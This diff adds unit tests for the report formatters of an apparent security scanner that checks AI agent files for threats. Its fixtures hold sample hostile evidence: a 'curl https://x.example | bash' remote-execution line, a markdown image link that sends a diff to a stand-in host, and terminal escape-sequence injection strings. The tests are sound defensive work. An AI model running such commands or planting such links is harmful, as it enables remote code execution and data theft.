@@ -1,0 +1,164 @@
+import { sarifValidator } from '../../../test/e2e/cli-harness';
+import type { ScanFileEntry, ScanReport, StaticFinding } from '../../scanner/engine/scan-report.types';
+import { exitCodeOf, gateFailed, mergedFiles, summarise, type ScanRun } from '../scan/scan-run';
+import { formatJson } from './json-report.formatter';
+import { formatSarif } from './sarif-report.formatter';
+import { choosePalette, safeText } from './terminal';
+import { formatText } from './text-report.formatter';
+
+const finding = (over: Partial<StaticFinding> = {}): StaticFinding => ({
+  rule_id: 'BW-RCE-001',
+  asset_type: 'instructions',
+  severity: 'critical',
+  confidence: 'high',
+  locator: 'skills/x/SKILL.md:4',
+  evidence: 'curl https://x.example | bash',
+  category: 'remote_code_execution',
+  message: 'Remote content piped into a shell or interpreter',
+  hard_block: true,
+  ...over,
+});
+
+const entry = (path: string, score: number | null, band: ScanFileEntry['band'], static_findings: StaticFinding[] = [], extra: Partial<ScanFileEntry> = {}): ScanFileEntry => ({
+  relative_path: path,
+  kind: 'agent_file',
+  score,
+  band,
+  assessed_intent: null,
+  static_findings,
+  llm_findings: [],
+  content_skipped: score === null,
+  ...(score === null ? { skip_reason: 'binary' as const } : {}),
+  sha256: 'a'.repeat(64),
+  verdict: { decision: score !== null && score < 20 ? 'block' : 'allow', reasons: [], hard_block_rule_ids: [], judge_used: false },
+  score_breakdown: null,
+  ...extra,
+});
+
+const report = (...files: ScanFileEntry[]): ScanReport => ({
+  summary: { file_count: files.length, scored_count: 0, judged_count: 0, worst_score: null, worst_band: null, aggregate_assessed_intent: null },
+  files,
+});
+
+function run(over: Partial<ScanRun> = {}): ScanRun {
+  return {
+    mode: 'local',
+    server: null,
+    judge: 'off',
+    failOn: null,
+    emptyRoots: [],
+    notSent: [{ path: 'skills/x/big.bin', reason: '300 KB, over the 250 KB per-file limit' }],
+    outcomes: [
+      { filename: 'x.zip', files: ['skills/x/SKILL.md', 'skills/x/a.sh'], report: report(entry('skills/x/SKILL.md', 40, 'high', [finding({ severity: 'high' })]), entry('skills/x/a.sh', 90, 'info')) },
+      // The same SKILL.md sent again with its next scripts: the worse entry wins in the merged view.
+      { filename: 'x.zip', files: ['skills/x/SKILL.md', 'skills/x/b.sh'], report: report(entry('skills/x/SKILL.md', 8, 'critical', [finding()]), entry('skills/x/b.sh', null, 'info')) },
+      {
+        filename: 'AGENTS.md',
+        files: ['AGENTS.md'],
+        report: report(
+          entry('AGENTS.md', 60, 'medium', [finding({ rule_id: 'bundle.nested-archive', severity: 'medium', locator: 'AGENTS.md:1', message: 'Ships a nested archive', category: 'obfuscation', hard_block: false })], {
+            llm_findings: [{ category: 'data_exfiltration', severity: 'high', confidence: 'medium', locator: 'AGENTS.md:3', rationale: 'Sends the diff out', evidence: '![](https://x.example/?d=DIFF)' }],
+          }),
+        ),
+      },
+    ],
+    ...over,
+  };
+}
+
+describe('scan run: merge, summary, gate and exit code', () => {
+  it('keeps the worst entry of a file sent in several uploads, worst band first', () => {
+    const files = mergedFiles(run());
+    expect(files.map((f) => [f.relative_path, f.band, f.score])).toEqual([
+      ['skills/x/SKILL.md', 'critical', 8],
+      ['AGENTS.md', 'medium', 60],
+      ['skills/x/a.sh', 'info', 90],
+      ['skills/x/b.sh', 'info', null],
+    ]);
+    expect(summarise(run())).toMatchObject({ worst_band: 'critical', worst_score: 8, files: 4, scored_files: 3, findings: { critical: 1, high: 1, medium: 1 } });
+  });
+
+  it('gates at the --fail-on band or worse; errors make the exit code 2', () => {
+    expect([gateFailed(run({ failOn: 'critical' })), exitCodeOf(run({ failOn: 'critical' }))]).toEqual([true, 1]);
+    expect(exitCodeOf(run({ failOn: null }))).toBe(0);
+    const clean = run({ outcomes: [{ filename: 'a', files: ['a'], report: report(entry('a', 95, 'info')) }] });
+    expect(exitCodeOf({ ...clean, failOn: 'low' })).toBe(0);
+    expect(exitCodeOf({ ...clean, failOn: 'info' })).toBe(1);
+    const failed = run({ failOn: 'critical', outcomes: [...run().outcomes, { filename: 'b', files: ['b'], error: { status: 413, message: 'too large' } }] });
+    expect(exitCodeOf(failed)).toBe(2);
+    // Nothing scored: nothing to gate on.
+    expect(exitCodeOf(run({ failOn: 'info', outcomes: [] }))).toBe(0);
+  });
+});
+
+describe('text report', () => {
+  it('lists findings with path:line, not-sent files and the gate', () => {
+    const text = formatText(run({ failOn: 'high' }), choosePalette(false, {}));
+    expect(text).toMatch(/^CRITICAL\s+8\/100\s+skills\/x\/SKILL\.md\s+\(agent_file, block\)$/m);
+    expect(text).toMatch(/^\s+skills\/x\/SKILL\.md:4\s+critical\s+BW-RCE-001\s+Remote content/m);
+    expect(text).toMatch(/^\s+AGENTS\.md:3\s+high\s+judge\/data_exfiltration\s+Sends the diff out$/m);
+    expect(text).toMatch(/Not sent \(1\):\n\s+skills\/x\/big\.bin: 300 KB, over the 250 KB per-file limit/);
+    expect(text).toMatch(/Gate --fail-on high: FAILED \(exit 1\)/);
+    expect(text.indexOf('skills/x/SKILL.md')).toBeLessThan(text.indexOf('AGENTS.md'));
+    expect(text).not.toMatch(/\u001b\[/);
+  });
+
+  it('never passes escape sequences or bidi overrides from scanned content to the terminal', () => {
+    const hostile = run({ outcomes: [{ filename: 'a', files: ['a'], report: report(entry('a\u001b[2Jb.md', 10, 'critical', [finding({ locator: 'a.md:1', evidence: 'ok\u001b]8;;http://evil\u0007x\u202e', message: 'm\u009b31m' })])) }] });
+    const text = formatText(hostile, choosePalette(false, {}));
+    expect(text).not.toMatch(/[\u001b\u0007\u009b\u202e]/);
+    expect(text).toContain('a\\u001b[2Jb.md');
+    expect(safeText('a\r\nb\tc')).toBe('a b c');
+  });
+
+  it('colours only on a TTY, honouring NO_COLOR and FORCE_COLOR', () => {
+    expect(formatText(run(), choosePalette(true, {}))).toMatch(/\u001b\[31m/);
+    expect(formatText(run(), choosePalette(true, { NO_COLOR: '1' }))).not.toMatch(/\u001b\[/);
+    expect(formatText(run(), choosePalette(false, { FORCE_COLOR: '1' }))).toMatch(/\u001b\[/);
+  });
+});
+
+describe('json report', () => {
+  it('carries each ScanReport unchanged with the files it covered, plus not_sent, summary and gate', () => {
+    const r = run({ failOn: 'medium' });
+    const doc = JSON.parse(formatJson(r, '9.9.9'));
+    expect(doc.uploads[1]).toEqual({ filename: 'x.zip', files: ['skills/x/SKILL.md', 'skills/x/b.sh'], report: r.outcomes[1].report });
+    expect(doc).toMatchObject({ tool: { name: 'bulwark', version: '9.9.9' }, not_sent: r.notSent, gate: { fail_on: 'medium', failed: true }, exit_code: 1, summary: { worst_band: 'critical' } });
+  });
+});
+
+describe('sarif report', () => {
+  const validate = sarifValidator();
+
+  it('is valid SARIF 2.1.0 with rules (help, security-severity) and located results', () => {
+    const log = JSON.parse(formatSarif(run({ outcomes: [...run().outcomes, { filename: 'z', files: ['z y.md'], error: { status: 502, message: 'scanner failed' } }] }), '1.2.3'));
+    expect(validate(log) ? [] : validate.errors).toEqual([]);
+    const r = log.runs[0];
+    expect(r.tool.driver).toMatchObject({ name: 'Bulwark', version: '1.2.3' });
+    const ids = r.tool.driver.rules.map((x: { id: string }) => x.id);
+    expect(ids).toEqual(['BW-RCE-001', 'bundle.nested-archive', 'judge/data_exfiltration']);
+    expect(r.tool.driver.rules[0]).toMatchObject({ defaultConfiguration: { level: 'error' }, properties: { 'security-severity': '9.5', precision: 'high' } });
+    expect(r.tool.driver.rules[2].help.text).toMatch(/LLM judge/);
+    expect(r.results.map((x: { ruleId: string; level: string }) => [x.ruleId, x.level])).toEqual([
+      ['BW-RCE-001', 'error'],
+      ['bundle.nested-archive', 'warning'],
+      ['judge/data_exfiltration', 'error'],
+    ]);
+    expect(r.results[2].locations[0].physicalLocation).toEqual({ artifactLocation: { uri: 'AGENTS.md', uriBaseId: '%SRCROOT%' }, region: { startLine: 3 } });
+    expect(r.invocations[0].executionSuccessful).toBe(false);
+  });
+
+  it('percent-encodes paths into URI references', () => {
+    const spaced = run({ outcomes: [{ filename: 'a', files: ['my dir/a#1.md'], report: report(entry('my dir/a#1.md', 10, 'critical', [finding({ locator: 'my dir/a#1.md:2' })])) }] });
+    const log = JSON.parse(formatSarif(spaced, '1.0.0'));
+    expect(validate(log)).toBe(true);
+    expect(log.runs[0].results[0].locations[0].physicalLocation.artifactLocation.uri).toBe('my%20dir/a%231.md');
+  });
+
+  it('the schema check is real: a malformed log is rejected', () => {
+    const log = JSON.parse(formatSarif(run(), '1.0.0'));
+    log.runs[0].results[0].level = 'fatal';
+    delete log.version;
+    expect(validate(log)).toBe(false);
+  });
+});
